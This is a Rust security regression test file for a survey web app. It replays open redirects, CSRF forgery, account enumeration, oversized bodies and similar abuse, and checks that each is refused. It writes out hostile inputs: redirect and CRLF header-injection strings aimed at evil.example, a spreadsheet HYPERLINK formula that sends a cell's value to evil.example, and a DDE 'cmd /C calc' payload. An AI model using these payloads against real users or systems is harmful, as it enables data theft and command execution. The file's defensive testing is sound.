//! Abuse found with a browser and curl, each replayed here and shown to fail:
//! open redirects, formulas in the CSV, guessable passwords, caching and
//! referrer headers, forged pre-sign-in CSRF pairs, account enumeration,
//! oversized API bodies, crafted start times.

use crate::helpers::{apps, csrf_in, hidden_value, Browser, TestApp};
use reqwest::{Client, StatusCode};
use store::testing::TestDatabase;

async fn account_count(app: &TestApp) -> i64 {
    let (n,): (i64,) = sqlx::query_as("SELECT COUNT(*) FROM accounts").fetch_one(app.store.pool()).await.unwrap();
    n
}

fn location(r: &reqwest::Response) -> String {
    r.headers().get("location").map(|l| l.to_str().unwrap().to_string()).unwrap_or_default()
}

const TRICKY_NEXTS: [&str; 7] = ["/\t/evil.example", "//evil.example", "/\\evil.example", "/%2F%2Fevil.example", "https://evil.example/", "javascript:alert(1)", "/projects\r\nSet-Cookie: x=1"];

#[tokio::test]
async fn a_crafted_next_after_sign_up_and_sign_in_stays_on_this_site() {
    for app in apps().await {
        for (i, next) in TRICKY_NEXTS.iter().enumerate() {
            let b = Browser::new(&app);
            let email = format!("ada{i}@example.com");
            // Sign-up goes on to `next` once its mailed link is followed.
            let r = b.sign_up_with(&email, "Ada", "a good password", next).await;
            assert_eq!(r.status(), StatusCode::SEE_OTHER, "sign-up with next={next:?}");
            assert_eq!(location(&r), "/projects", "sign-up with next={next:?}");

            let b = Browser::new(&app);
            let r = b.submit("/signin", "/signin", &[("email", &email), ("password", "a good password"), ("next", next)]).await;
            assert_eq!(r.status(), StatusCode::SEE_OTHER, "sign-in with next={next:?}");
            assert_eq!(location(&r), "/projects", "sign-in with next={next:?}");
        }
        // The encoded tab, as it arrives in a link, never reaches the form either.
        let (status, html) = Browser::new(&app).get_text("/signin?next=/%09/evil.example").await;
        assert_eq!(status, StatusCode::OK);
        assert_eq!(hidden_value(&html, "next").as_deref(), Some("/projects"));
        let (status, _) = Browser::new(&app).get_text("/signin?next=/projects%0d%0aSet-Cookie:x=1").await;
        assert_eq!(status, StatusCode::OK, "a newline in next gives the normal page");
    }
}

#[tokio::test]
async fn a_same_site_next_is_still_followed_after_sign_in() {
    for app in apps().await {
        Browser::new(&app).sign_up("ada@example.com", "Ada").await;
        let b = Browser::new(&app);
        let r = b.submit("/signin?next=/account", "/signin", &[("email", "ada@example.com"), ("password", "a good password"), ("next", "/account")]).await;
        assert_eq!(location(&r), "/account");
    }
}

#[tokio::test]
async fn formulas_typed_by_respondents_reach_the_csv_as_text() {
    for app in apps().await {
        let owner = Browser::new(&app);
        owner.sign_up("owner@example.com", "Olive").await;
        let id = owner.create_project("Feedback").await;
        owner.add_question(id, "text", "@Comment", "", false).await; // q1
        owner.add_question(id, "number", "Balance", "", false).await; // q2
        let page = format!("/projects/{id}/survey");
        owner.submit(&page, &format!("{page}/embedded"), &[("name", "case_id")]).await;
        let link = owner.publish(id).await;

        let r = Browser::new(&app);
        let form = [("q1", "=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")"), ("q2", "-3"), ("e.case_id", "+1+cmd|' /C calc'!A0")];
        assert_eq!(r.post_form(&link, &form).await.status(), StatusCode::SEE_OTHER);
        let text_minus = [("q1", "-2+3"), ("q2", "")];
        assert_eq!(r.post_form(&link, &text_minus).await.status(), StatusCode::SEE_OTHER);

        let csv = owner.get(&format!("/projects/{id}/responses.csv")).await;
        assert_eq!(csv.status(), StatusCode::OK);
        let body = csv.text().await.unwrap();
        let mut rows = csv::Reader::from_reader(body.as_bytes());
        let header = rows.headers().unwrap().clone();
        assert_eq!(&header[3], "'@Comment (q1)");
        let rows: Vec<csv::StringRecord> = rows.records().map(Result::unwrap).collect();
        let formula = rows.iter().find(|row| row[3].contains("HYPERLINK")).expect("first response");
        assert_eq!(&formula[3], "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")");
        assert_eq!(&formula[4], "-3", "a number question's answer stays a number");
        assert_eq!(&formula[5], "'+1+cmd|' /C calc'!A0");
        let text = rows.iter().find(|row| row[3].contains("2+3")).expect("second response");
        assert_eq!(&text[3], "'-2+3");
        for row in &rows {
            for cell in row.iter() {
                assert!(!cell.starts_with(['=', '+', '@', '\t', '\r']), "unescaped cell {cell:?}");
            }
        }

        let (_, table) = owner.get_text(&format!("/projects/{id}/responses")).await;
        assert!(table.contains("run as a formula") || table.contains("running it as a formula"), "the export says how it escapes");
    }
}

#[tokio::test]
async fn a_common_password_is_refused_with_what_to_do_and_no_account_is_made() {
    for app in apps().await {
        let b = Browser::new(&app);
        for common in ["password1", "12345678", "qwertyuiop", "iloveyou"] {
            let r = b.submit("/signup", "/signup", &[("name", "Bob"), ("email", "bob@example.com"), ("password", common)]).await;
            assert_eq!(r.status(), StatusCode::UNPROCESSABLE_ENTITY, "{common}");
            let html = r.text().await.unwrap();
            assert!(html.contains("too easy to guess") && html.contains("uncommon words"), "{common}: {html}");
        }
        let r = b.submit("/signup", "/signup", &[("name", "Bob"), ("email", "bob@example.com"), ("password", "bob@example.com")]).await;
        assert_eq!(r.status(), StatusCode::UNPROCESSABLE_ENTITY, "a password that is the account's own email");
        assert_eq!(account_count(&app).await, 0);
    }
}

#[tokio::test]
async fn pages_exports_and_the_api_are_never_cached_and_send_no_referrer_away() {
    for app in apps().await {
        let b = Browser::new(&app);
        b.sign_up("ada@example.com", "Ada").await;
        let id = b.create_project("Cached?").await;
        let token = b.api_token().await;
        let api = Client::new().get(format!("{}/api/v1/projects", app.url)).bearer_auth(&token).send().await.unwrap();
        assert_eq!(api.status(), StatusCode::OK);
        let responses = [
            b.get("/projects").await,
            b.get("/account").await,
            b.get(&format!("/projects/{id}/responses")).await,
            b.get(&format!("/projects/{id}/responses.csv")).await,
            b.get("/signin").await,
            api,
        ];
        for r in responses {
            let url = r.url().path().to_string();
            assert_eq!(r.headers().get("cache-control").map(|v| v.to_str().unwrap()), Some("no-store"), "{url}");
            assert_eq!(r.headers().get("referrer-policy").map(|v| v.to_str().unwrap()), Some("same-origin"), "{url}");
            assert!(r.headers().get("strict-transport-security").is_none(), "no HSTS over plain http: {url}");
        }
    }
}

#[tokio::test]
async fn hsts_is_sent_when_the_public_url_is_https() {
    let db = TestDatabase::sqlite();
    let mut config = web::Config::new(db.url.clone(), "127.0.0.1:0".parse().unwrap());
    config.app.secret_key = Some(store::sealed::Sealer::generate_key());
    config.app.public_url = Some("https://insight.example".into());
    let app = web::Application::build(config).await.unwrap();
    let addr = app.local_addr();
    let (stop, stopped) = tokio::sync::oneshot::channel::<()>();
    tokio::spawn(app.run_until(async move {
        let _ = stopped.await;
    }));
    let r = Client::new().get(format!("http://{addr}/signin")).send().await.unwrap();
    let hsts = r.headers().get("strict-transport-security").map(|v| v.to_str().unwrap().to_string());
    assert_eq!(hsts.as_deref(), Some("max-age=31536000"));
    let _ = stop.send(());
}

#[tokio::test]
async fn a_planted_csrf_cookie_with_a_matching_form_value_is_refused() {
    for app in apps().await {
        Browser::new(&app).sign_up("victim@example.com", "Victim").await;
        // A sibling subdomain can set a cookie for this host; the attacker picks
        // its value and sends the same value in the form.
        let forged = "attacker-chosen-value-0000000000000000000000";
        let raw = Client::builder().redirect(reqwest::redirect::Policy::none()).build().unwrap();
        let cookie = format!("insight_csrf={forged}");
        let signin = raw
            .post(format!("{}/signin", app.url))
            .header("cookie", &cookie)
            .form(&[("csrf", forged), ("email", "victim@example.com"), ("password", "a good password")])
            .send()
            .await
            .unwrap();
        assert_eq!(signin.status(), StatusCode::FORBIDDEN);
        assert!(signin.headers().get("set-cookie").is_none_or(|c| !c.to_str().unwrap().contains("insight_session")));
        let signup = raw
            .post(format!("{}/signup", app.url))
            .header("cookie", &cookie)
            .form(&[("csrf", forged), ("name", "Mallory"), ("email", "mallory@example.com"), ("password", "a good password")])
            .send()
            .await
            .unwrap();
        assert_eq!(signup.status(), StatusCode::FORBIDDEN);
        assert_eq!(account_count(&app).await, 1, "no account was made by the forged pair");

        // The token the page shows is not the cookie's value, and only fits the cookie it was made for.
        let b = Browser::new(&app);
        let (_, html) = b.get_text("/signin").await;
        let token = csrf_in(&html).unwrap();
        assert_ne!(token, forged);
        let r = raw
            .post(format!("{}/signin", app.url))
            .header("cookie", &cookie)
            .form(&[("csrf", token.as_str()), ("email", "victim@example.com"), ("password", "a good password")])
            .send()
            .await
            .unwrap();
        assert_eq!(r.status(), StatusCode::FORBIDDEN, "another browser's token does not fit the planted cookie");
        let r = b.submit("/signin", "/signin", &[("email", "victim@example.com"), ("password", "a good password")]).await;
        assert_eq!(r.status(), StatusCode::SEE_OTHER, "the page's own pair still signs in");
    }
}

#[tokio::test]
async fn sign_up_with_a_taken_email_does_not_say_the_account_exists() {
    for app in apps().await {
        Browser::new(&app).sign_up("ada@example.com", "Ada").await;
        let prober = Browser::new(&app);
        let r = prober.submit("/signup", "/signup", &[("name", "Imposter"), ("email", "ada@example.com"), ("password", "another password")]).await;
        assert!(r.headers().get("set-cookie").is_none_or(|c| !c.to_str().unwrap().contains("insight_session")), "not signed in");
        let (_, html) = prober.follow(r).await;
        let said = html.to_lowercase();
        assert!(!said.contains("already exists") && !said.contains("is taken") && !said.contains("in use"), "{html}");
        assert!(html.contains("Check your inbox") && html.contains("Sign in"), "{html}");
        assert_eq!(account_count(&app).await, 1);

        let wrong = prober.submit("/signin", "/signin", &[("email", "ada@example.com"), ("password", "another password")]).await;
        assert_eq!(wrong.status(), StatusCode::UNAUTHORIZED, "the prober's password did not replace the owner's");
        let owner = Browser::new(&app);
        let r = owner.submit("/signin", "/signin", &[("email", "ada@example.com"), ("password", "a good password")]).await;
        assert_eq!(r.status(), StatusCode::SEE_OTHER, "the owner still signs in");
    }
}

#[tokio::test]
async fn an_oversized_api_body_is_answered_413_in_json_and_creates_nothing() {
    for app in apps().await {
        let b = Browser::new(&app);
        b.sign_up("ada@example.com", "Ada").await;
        let token = b.api_token().await;
        let huge = format!("{{\"name\":\"{}\"}}", "x".repeat(2 * web::MAX_BODY_BYTES));
        let r = Client::new()
            .post(format!("{}/api/v1/projects", app.url))
            .bearer_auth(&token)
            .header("content-type", "application/json")
            .body(huge)
            .send()
            .await
            .unwrap();
        assert_eq!(r.status(), StatusCode::PAYLOAD_TOO_LARGE);
        let body: serde_json::Value = r.json().await.unwrap();
        assert_eq!(body["error"]["status"], 413);
        assert!(body["error"]["message"].as_str().unwrap().contains("too large"), "{body}");
        let (n,): (i64,) = sqlx::query_as("SELECT COUNT(*) FROM projects").fetch_one(app.store.pool()).await.unwrap();
        assert_eq!(n, 0);
    }
}

#[tokio::test]
async fn crafted_start_times_are_stored_as_unknown_or_refused_never_a_500() {
    for app in apps().await {
        let owner = Browser::new(&app);
        owner.sign_up("owner@example.com", "Olive").await;
        let id = owner.create_project("Timing").await;
        owner.add_question(id, "text", "Anything", "", false).await;
        let link = owner.publish(id).await;
        let r = Browser::new(&app);

        for started in [i64::MAX.to_string(), i64::MIN.to_string(), (i64::MIN + 1).to_string(), "-1".into(), "0".into()] {
            let (_, html) = r.get_text(&link).await;
            let rid = hidden_value(&html, "_rid").unwrap();
            let resp = r.post_form(&link, &[("_rid", &rid), ("_started", &started), ("q1", "hi")]).await;
            assert_eq!(resp.status(), StatusCode::SEE_OTHER, "_started={started}");
            let stored = app.store.response(id, &rid).await.unwrap().expect("stored");
            assert_eq!(stored.started_at, None, "_started={started} is not a plausible start");
        }
        let before = app.store.survey(id).await.unwrap().unwrap().response_count;
        for started in ["99999999999999999999999", "-99999999999999999999999", "1e30", "soon"] {
            let resp = r.post_form(&link, &[("_started", started), ("q1", "hi")]).await;
            assert_eq!(resp.status(), StatusCode::BAD_REQUEST, "_started={started}");
            assert!(resp.text().await.unwrap().contains("start time"), "_started={started}");
        }
        assert_eq!(app.store.survey(id).await.unwrap().unwrap().response_count, before, "nothing stored for refused start times");

        let (status, _) = owner.get_text(&format!("/projects/{id}/responses")).await;
        assert_eq!(status, StatusCode::OK, "the table renders whatever was stored");
    }
}
